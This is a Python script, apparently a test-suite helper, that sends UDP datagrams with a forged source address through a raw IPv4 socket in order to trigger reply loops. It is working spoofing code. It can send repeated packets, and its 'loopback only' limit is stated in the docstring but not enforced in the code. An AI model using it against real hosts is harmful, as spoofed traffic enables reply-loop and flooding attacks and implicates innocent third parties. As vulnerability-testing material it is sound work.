#!/usr/bin/env python3
"""Send one UDP datagram with a forged source address, through a raw IPv4 socket.

Usage: spoof_udp.py SRC_HOST SRC_PORT DST_HOST DST_PORT PAYLOAD [COUNT]

Writes COUNT (default 1) copies of an IPv4 + UDP packet from SRC_HOST:SRC_PORT to
DST_HOST:DST_PORT carrying PAYLOAD (UTF-8). This is what an attacker does to start a reply
loop: the receiver believes the datagram came from SRC. The kernel fills in the IP header's
checksum and total length; the UDP checksum is 0 (none, allowed over IPv4). Use loopback
addresses only.

Exit codes: 0 sent, 1 usage, 77 raw sockets are not permitted here (needs root or
CAP_NET_RAW).
"""

import socket
import struct
import sys


def packet(src_host, src_port, dst_host, dst_port, payload):
    udp_length = 8 + len(payload)
    ip_header = struct.pack(
        "!BBHHHBBH4s4s",
        0x45,  # version 4, header length 5 words
        0,  # type of service
        20 + udp_length,  # total length
        0x5150,  # identification
        0,  # flags and fragment offset
        64,  # time to live
        socket.IPPROTO_UDP,
        0,  # header checksum: the kernel fills it in
        socket.inet_aton(src_host),
        socket.inet_aton(dst_host),
    )
    udp_header = struct.pack("!HHHH", src_port, dst_port, udp_length, 0)
    return ip_header + udp_header + payload


def main(argv):
    if len(argv) not in (6, 7):
        print(__doc__, file=sys.stderr)
        return 1
    src_host, src_port, dst_host, dst_port, payload = argv[1], int(argv[2]), argv[3], int(argv[4]), argv[5]
    count = int(argv[6]) if len(argv) == 7 else 1
    try:
        raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    except PermissionError as ex:
        print("raw sockets are not permitted: %s" % ex, file=sys.stderr)
        return 77
    with raw:
        data = packet(src_host, src_port, dst_host, dst_port, payload.encode("utf-8"))
        for _ in range(count):
            raw.sendto(data, (dst_host, 0))
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv))
